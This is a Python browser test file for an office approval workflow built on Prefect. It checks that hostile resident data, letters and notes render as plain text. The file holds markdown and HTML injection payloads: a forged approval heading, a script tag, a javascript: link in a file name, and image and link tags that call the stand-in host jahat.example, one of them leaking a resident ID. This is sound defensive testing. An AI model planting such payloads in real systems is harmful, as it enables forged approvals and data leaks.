"""Hostile texts of a letter, a file and a note, as they reach people: Prefect's UI and its links in a real browser.

Markdown in Prefect runs no script, but it draws headings, tables, links and images that data could forge: a name made
the heading "DISETUJUI OLEH KADIS" and fetched pictures from outside.
"""

import json
import time
from collections.abc import Iterator
from datetime import UTC, datetime
from pathlib import Path

import httpx
import pytest
from office_kit.files import Row, write_csv, write_letter
from office_kit.residents import again, resident
from playwright.sync_api import Page, Request, expect

from flows.demo import DEMO_PEOPLE, code_for, file_code_for
from flows.rest import Api, Run
from flows.supervisor import running_office
from tasks.approvals.people import register
from tasks.ledger import open_ledger
from tasks.office import Office

pytestmark = [pytest.mark.browser, pytest.mark.server]
GATE_SECONDS = 180
OUTSIDE = "jahat.example"
PICTURE = f"![x](http://{OUTSIDE}/bocor?nik=1)"
LINK = f"[klik di sini](https://{OUTSIDE}/masuk)"
FORGED = "DISETUJUI OLEH KADIS"
HOSTILE = f"Ditjen\n\n# {FORGED}\n\n| a | b |\n|---|---|\n| {LINK} | {PICTURE} | <img src=http://{OUTSIDE}/y name=body> https://{OUTSIDE}"
NOTE = f"`tutup` {PICTURE} {LINK}\n# {FORGED}\n<script>document.title='{FORGED}'</script> https://{OUTSIDE}"
FILE = "# DISETUJUI {klik}(javascript:alert(1)) <img src=x>.csv"


def _rows() -> list[Row]:
    """Residents whose names and addresses would be headings, links and pictures."""
    return [
        again(resident(50 + at), NAMA_LGKP=text, ALAMAT=text, NAMA_LGKP_IBU=text)
        for at, text in enumerate((f"# {FORGED}", PICTURE, LINK, f"<img src=http://{OUTSIDE}/z>", "`|` _x_ **Y**"))
    ]


@pytest.fixture(scope="module")
def api(office: Office) -> Iterator[Api]:
    """A running demo office that received one extract with its letter, both hostile."""
    with open_ledger(office) as ledger:
        for person, mandate in DEMO_PEOPLE:
            register(ledger, office.key("totp"), (person, mandate), datetime.now(UTC))
    with running_office(office) as running:
        write_csv(office.inbox / FILE, _rows())
        totals = {FILE: {"jumlah": len(_rows())}}
        write_letter(office.inbox / "surat.json", totals, dari=HOSTILE, nomor=LINK, perihal=HOSTILE, tanggal=PICTURE)
        yield running


def _wait(api: Api, role: str, round_no: int) -> Run:
    deadline = time.monotonic() + GATE_SECONDS
    while time.monotonic() < deadline:
        found = next(iter(api.runs()), None)
        if found and (found.gate or "").startswith(f"{role}-r{round_no}") and api.has_form(found):
            return found
        assert not (found and found.is_final), found
        time.sleep(0.3)
    return pytest.fail(f"tidak pernah sampai di {role} ronde {round_no}", pytrace=False)


def _answer(office: Office, api: Api, run: Run, answer: tuple[str, str]) -> None:
    person, code, _ = code_for(office, str(run.role))
    typed = {"keputusan": answer[0], "catatan": answer[1], "nip": person.nip, "kode": code}
    api.resume(run, typed | {"kode_berkas": file_code_for(office, run.agenda)})


def _harmless(page: Page) -> None:
    """Nothing on the page came out of data: no heading, no picture, no link that leads out, no script of theirs."""
    assert FORGED not in page.title()
    for heading in page.get_by_role("heading").all():
        assert FORGED not in heading.inner_text()
    assert page.locator(f"img[src*='{OUTSIDE}'], a[href*='{OUTSIDE}'], a[href^='javascript']").count() == 0
    assert page.locator("[name='body']").count() == 0


def _artifacts(api: Api) -> list[dict[str, str]]:
    found = httpx.post(f"{api.url}/artifacts/latest/filter", json={}).json()
    return [dict(item) for item in found]


def test_hostile_texts_stay_texts(office: Office, api: Api, page: Page) -> None:
    """If this fails, whoever sends a file or writes a note can show approvers a signature that nobody gave."""
    asked: list[str] = []

    def heard(request: Request) -> None:
        asked.append(request.url)

    page.on("request", heard)
    run = _wait(api, "staff", 1)
    _answer(office, api, run, ("Ajukan", NOTE))
    run = _wait(api, "kasi", 1)
    _answer(office, api, run, ("Tidak", NOTE))
    run = _wait(api, "staff", 2)  # its form quotes the note
    page.goto(api.page(run))
    page.get_by_role("button", name="Open menu").click()
    page.get_by_role("menuitem", name="Resume").click()
    expect(page.get_by_role("dialog")).to_contain_text("menjawab Tidak")
    expect(page.get_by_role("dialog")).to_contain_text(FORGED)  # it is there, and a text
    _harmless(page)
    shown = _artifacts(api)
    assert {str(item["key"]).split("-")[0] for item in shown} >= {"draf", "usulan", "laporan", "dokumen"}
    for item in shown:
        page.goto(f"{api.url.removesuffix('/api')}/v2/artifacts/artifact/{item['latest_id']}")
        expect(page.get_by_text(run.agenda).first).to_be_visible()
        _harmless(page)
    assert not [url for url in asked if OUTSIDE in url]


def test_links_lead_to_the_papers(office: Office, api: Api, page: Page) -> None:
    """If this fails, the approver's link to the lembar verifikasi leads nowhere, or to a list with residents' data."""
    shown = next(item for item in _artifacts(api) if str(item["key"]).startswith("dokumen-"))
    page.goto(f"{api.url.removesuffix('/api')}/v2/artifacts/artifact/{shown['latest_id']}")
    link = page.get_by_role("link", name="lembar-verifikasi")
    expect(link.first).to_be_visible()
    address = str(link.first.get_attribute("href"))
    assert address.startswith(json.loads((office.home / "server.json").read_text())["reports"] + "/dokumen/")
    answer = httpx.get(address)
    assert answer.status_code == httpx.codes.OK
    assert answer.headers["content-type"] == "application/pdf"
    name = Path(address).name
    assert answer.content == (office.documents / Path(address).parent.name / name).read_bytes()
    assert answer.content.startswith(b"%PDF")
